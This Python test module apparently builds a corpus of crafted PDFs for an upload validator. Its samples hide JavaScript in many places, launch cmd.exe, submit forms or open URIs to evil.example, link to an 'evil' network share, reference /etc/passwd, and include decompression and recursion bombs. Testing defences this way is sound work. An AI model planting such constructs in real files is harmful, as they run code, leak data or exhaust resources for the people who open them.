"""PDFs: such as act, hide, lock themselves or want memory and time, and honest ones."""

import io
import zlib

from pypdf import PdfReader, PdfWriter

from tests.accounts.onboarding.files import Given, pdf_pages, picture, saved
from tests.accounts.onboarding.pdf_writing import (
    A_SCRIPT,
    DRAW,
    Sheet,
    changed,
    deflated,
    many_pages,
    stream,
    with_object_stream,
    written,
)

FILE = {10: b"<</Type/Filespec/F(a.exe)/UF(a.exe)/EF<</F 11 0 R>>>>", 11: stream(b"MZ", b"/Type/EmbeddedFile")}


def opening(action: bytes) -> bytes:
    """A document that does something when it is opened."""
    return Sheet(catalogue=b"/OpenAction " + action).written()


def noted(annotation: bytes, **more: bytes) -> bytes:
    """A document with an annotation on its page."""
    return Sheet(page=b"/Annots[<</Type/Annot/Rect[0 0 90 90]%b>>]" % annotation).written()


def pressed(action: bytes) -> bytes:
    """A document with a link that acts."""
    return noted(b"/Subtype/Link/A" + action)


def scripts() -> list[Given]:
    """A script, wherever it can hide."""
    tree = b"/Names<</JavaScript<</Kids[10 0 R]>>>>"
    leaves = {10: b"<</Limits[(a)(a)]/Names[(a) 11 0 R]>>", 11: A_SCRIPT}
    field = b"<</FT/Tx/T(f)/AA<</K 11 0 R>>>>"
    packed = Sheet(catalogue=b"/OpenAction 10 0 R", objects={10: A_SCRIPT}).parts()
    plain = {number: packed.pop(number) for number in (4,)}
    files = {
        "when it is opened": opening(A_SCRIPT),
        "under a name in numbers": opening(b"<</S/J#61vaScript/J#53(app.alert\\(1\\))>>"),
        "in a stream": Sheet(
            catalogue=b"/OpenAction 10 0 R", objects={10: b"<</S/JavaScript/JS 11 0 R>>", 11: deflated(b"app.alert(1)")}
        ).written(),
        "in the tree of names": Sheet(catalogue=tree, objects=leaves).written(),
        "in a tree of names that is a ring": Sheet(
            catalogue=tree, objects={**leaves, 10: b"<</Kids[10 0 R 11 0 R]>>"}
        ).written(),
        "behind a link": pressed(A_SCRIPT),
        "after a harmless action": opening(b"<</S/GoTo/D[3 0 R/Fit]/Next %b>>" % A_SCRIPT),
        "when a page is turned": Sheet(page=b"/AA<</O %b>>" % A_SCRIPT).written(),
        "when a field is typed in": Sheet(
            catalogue=b"/AcroForm<</Fields[10 0 R]>>", objects={10: field, 11: A_SCRIPT}
        ).written(),
        "in an object stream": with_object_stream(plain, packed),
        "where no page leads": Sheet(objects={10: A_SCRIPT}).written(),
        "in an update": changed(Sheet().written(), {1: b"<</Type/Catalog/Pages 2 0 R/OpenAction 9 0 R>>", 9: A_SCRIPT}),
        "in a picture of itself": Sheet(objects={10: b"<</S/Rendition/JS(app.alert\\(1\\))>>"}).written(),
    }
    return [Given(f"a script {where}", raw, "script") for where, raw in files.items()]


def acting() -> list[Given]:
    """What else a PDF can do, carry or refer to."""
    outcomes = {
        "starts_programs": {
            "a program when it is opened": opening(b"<</S/Launch/F(cmd.exe)>>"),
            "a program behind a link": pressed(b"<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>"),
        },
        "attachment": {
            "a file in the tree of names": Sheet(
                catalogue=b"/Names<</EmbeddedFiles<</Names[(a)10 0 R]>>>>", objects=FILE
            ).written(),
            "a file pinned to the page": Sheet(
                page=b"/Annots[<</Subtype/FileAttachment/Rect[0 0 9 9]/FS 10 0 R>>]", objects=FILE
            ).written(),
            "a file that belongs to the document (PDF/A-3)": Sheet(catalogue=b"/AF[10 0 R]", objects=FILE).written(),
            "a file where nothing leads": Sheet(objects={11: FILE[11]}).written(),
            "a way into a file inside": pressed(b"<</S/GoToE/T<</R/C/N(a.pdf)>>>>"),
        },
        "living_form": {
            "a form that draws itself": Sheet(
                catalogue=b"/AcroForm<</Fields[]/XFA 10 0 R>>", objects={10: stream(b"<xdp/>")}
            ).written()
        },
        "media": {
            "a film": noted(b"/Subtype/Movie/Movie<</F(a.avi)>>"),
            "a sound": noted(b"/Subtype/Sound/Sound 4 0 R"),
            "a screen": noted(b"/Subtype/Screen"),
            "rich media": noted(b"/Subtype/RichMedia/RichMediaContent<<>>"),
            "a model": noted(b"/Subtype/3D/3DD 4 0 R"),
            "a sound behind a link": pressed(b"<</S/Sound/Sound 4 0 R>>"),
        },
        "sends": {
            "a form that is sent": pressed(b"<</S/SubmitForm/F(https://evil.example)>>"),
            "a form that is fetched": pressed(b"<</S/ImportData/F(a.fdf)>>"),
        },
        "other_files": {
            "a way to another file": pressed(b"<</S/GoToR/F(\\\\\\\\evil\\\\share.pdf)/D[0/Fit]>>"),
            "bytes from another file": Sheet(objects={10: stream(b"", b"/F(/etc/passwd)")}).written(),
        },
        "acts": {
            "an address that is opened by itself": opening(b"<</S/URI/URI(https://evil.example)>>"),
            "a page that acts when it is turned": Sheet(page=b"/AA<</O<</S/Named/N/Print>>>>").written(),
        },
    }
    return [Given(about, raw, code) for code, files in outcomes.items() for about, raw in files.items()]


def locked(*, owner_only: bool = False) -> bytes:
    """A PDF with a password, to open it or only to change it."""
    writer, out = PdfWriter(), io.BytesIO()
    writer.append(PdfReader(io.BytesIO(Sheet().written())))
    writer.encrypt("" if owner_only else "secret", "owner", algorithm="RC4-128")
    writer.write(out)
    return out.getvalue()


def laughing(levels: int = 9) -> bytes:
    """Drawings of drawings of drawings: ten times as many at every level."""
    forms = {
        10 + level: stream(
            b"/X Do " * 10 if level else DRAW,
            b"/Type/XObject/Subtype/Form/BBox[0 0 300 200]/Resources<</Font<</F1 5 0 R>>/XObject<</X %d 0 R>>>>"
            % (9 + level),
        )
        for level in range(levels)
    }
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R/Resources<</XObject<</X %d 0 R>>>>>>"
    return Sheet(content=b"/X Do " * 10, objects={**forms, 3: page % (9 + levels)}).written()


def hungry() -> list[Given]:
    """Pages without end, rings, and little files that unfold."""
    twice = zlib.compress(zlib.compress(bytes(600_000_000), 1), 9)
    ring = {2: b"<</Type/Pages/Kids[2 0 R 3 0 R]/Count 2>>"}
    far = {2: b"<</Type/Pages/Kids[10 0 R]/Count 1>>", 10: b"<</Type/Pages/Kids[2 0 R]/Parent 2 0 R/Count 1>>"}
    image = b"/Subtype/Image/Width 60000/Height 60000/BitsPerComponent 1/ColorSpace/DeviceGray"
    itself = stream(b"/X Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 10 0 R>>>>")
    draws = b"/Resources<</XObject<</X 10 0 R>>>>"
    table = Sheet().written()
    return [
        Given("10,000 pages", many_pages(10_000), "too_many_pages"),
        Given("41 pages", many_pages(41), "too_many_pages"),
        Given("no page", Sheet(objects={2: b"<</Type/Pages/Kids[]/Count 0>>"}).written(), "damaged_pdf"),
        Given("a page tree that holds itself", Sheet(objects=ring).written(), "damaged_pdf"),
        Given("a page tree in a ring without pages", Sheet(objects=far).written(), "damaged_pdf"),
        Given(
            "a content that unfolds to 600 MB",
            Sheet(objects={4: stream(twice, b"/Filter[/FlateDecode/FlateDecode]")}).written(),
            "too_costly",
        ),
        Given(
            "a picture of 3.6 billion pixels",
            Sheet(objects={10: deflated(bytes(1_000), image)}).written(),
            "too_many_pixels",
        ),
        Given(
            "a drawing that draws itself",
            Sheet(content=b"/X Do", page=draws, objects={10: itself}).written(),
            "neutralised",
        ),
        Given("a billion drawings", laughing(), "too_costly", seconds=2),
        Given(
            "ten million lines",
            Sheet(objects={4: deflated(b"0 0 m 300 200 l S\n" * 10_000_000)}).written(),
            "too_costly",
            seconds=2,
        ),
        Given(
            "arrays in arrays in arrays", Sheet(objects={10: b"[" * 90_000 + b"]" * 90_000}).written(), "damaged_pdf"
        ),
        Given(
            "a table that leads to itself",
            table.replace(b"/Root", b"/Prev %d/Root" % table.index(b"xref\n0 1")),
            "neutralised",
        ),
        Given("a sheet of four kilometres", Sheet(box=b"[0 0 9999999 9999999]").written(), "neutralised"),
        Given("a sheet of no size", Sheet(box=b"[0 0 0 0]").written(), "neutralised"),
        Given("a sheet as thin as a hair", Sheet(box=b"[0 0 1 14400]").written(), "neutralised"),
        Given("a sheet on its head", Sheet(box=b"[300 200 0 0]").written(), "neutralised"),
        Given("a sheet that is not a number", Sheet(box=b"[0 0 /x (y)]").written(), "neutralised"),
    ]


def broken() -> list[Given]:
    """Locked, cut off or not what they say."""
    scan, extract = pdf_pages(1), Sheet().written()
    return [
        Given("locked with a password", locked(), "encrypted"),
        Given("locked against changes", locked(owner_only=True), "encrypted"),
        Given("nothing behind the signature", b"%PDF-1.7\n", "damaged_pdf"),
        Given("HTML behind the signature", b"%PDF-1.7\n<script>alert(1)</script>", "damaged_pdf"),
        Given("a catalogue that is missing", extract.replace(b"/Root 1", b"/Root 8"), "damaged_pdf"),
        Given("a catalogue that is a number", Sheet(objects={1: b"42"}).written(), "damaged_pdf"),
        *(
            Given(f"cut off after {share} %", scan[: len(scan) * share // 100], "damaged_pdf")
            for share in (10, 40, 60, 80)
        ),
    ]


def honest() -> list[Given]:
    """What registers, scanners and offices write."""
    form = b"/AcroForm<</Fields[10 0 R]/DA(/F1 12 Tf 0 g)/DR<</Font<</F1 5 0 R>>>>>>"
    widget = (
        b"<</Subtype/Widget/FT/Tx/T(name)/V(Harbour)/DA(/F1 12 Tf 0 g)/Rect[10 10 200 40]/P 3 0 R/AP<</N 11 0 R>>>>"
    )
    shown = stream(
        b"/Tx BMC BT /F1 12 Tf 2 9 Td (Harbour) Tj ET EMC",
        b"/Subtype/Form/BBox[0 0 190 30]/Resources<</Font<</F1 5 0 R>>>>",
    )
    packed = Sheet().parts()
    plain = {4: packed.pop(4)}
    bookmarks = {10: b"<</First 11 0 R/Last 11 0 R/Count 1>>", 11: b"<</Title(Extract)/Parent 10 0 R/Dest[3 0 R/Fit]>>"}
    linear = written({9: b"<</Linearized 1/L 1200/H[600 40]/O 3/E 900/N 1/T 1000>>", **Sheet().parts()})
    about = b"/Info<</Title(Registerauszug)/Producer(Amtsgericht)>>/ID[<aa><bb>]"
    return [
        *(
            Given(f"version {version.decode()}", Sheet(version=version).written())
            for version in (b"1.2", b"1.3", b"1.4", b"1.5", b"1.6", b"1.7", b"2.0")
        ),
        *(Given(f"a scan of {count} pages", pdf_pages(count)) for count in (1, 3)),
        *(Given(f"turned by {turn}", Sheet(page=b"/Rotate %d" % turn).written()) for turn in (90, 180, 270)),
        Given("forty pages", many_pages(40)),
        Given("a sheet across", Sheet(box=b"[0 0 842 595]").written()),
        Given("a large sheet", Sheet(box=b"[0 0 2384 3370]").written()),
        Given("a sheet with a crop", Sheet(page=b"/CropBox[10 10 200 150]").written()),
        Given(
            "a form that was filled in",
            Sheet(catalogue=form, page=b"/Annots[10 0 R]", objects={10: widget, 11: shown}).written(),
        ),
        Given("a link to an address", pressed(b"<</S/URI/URI(https://register.example)>>")),
        Given("a link within", pressed(b"<</S/GoTo/D[3 0 R/Fit]>>")),
        Given("opened at a place", opening(b"[3 0 R/XYZ null null 0]")),
        Given("opened at a place by an action", opening(b"<</S/GoTo/D[3 0 R/Fit]>>")),
        Given("bookmarks", Sheet(catalogue=b"/Outlines 10 0 R", objects=bookmarks).written()),
        Given("objects in a stream", with_object_stream(plain, packed)),
        Given("an update", changed(Sheet().written(), {4: stream(DRAW)})),
        Given("linearised", linear),
        Given("a title and a producer", Sheet(trailer=about).written()),
        Given("a compressed page", Sheet(objects={4: deflated(DRAW)}).written()),
        Given("an empty tree of scripts' names", Sheet(catalogue=b"/Names<</Dests<</Names[]>>>>").written()),
        Given("a grey scan", saved(picture().convert("L"), "PDF")),
        Given("a scan in black and white", saved(picture().convert("1"), "PDF")),
    ]
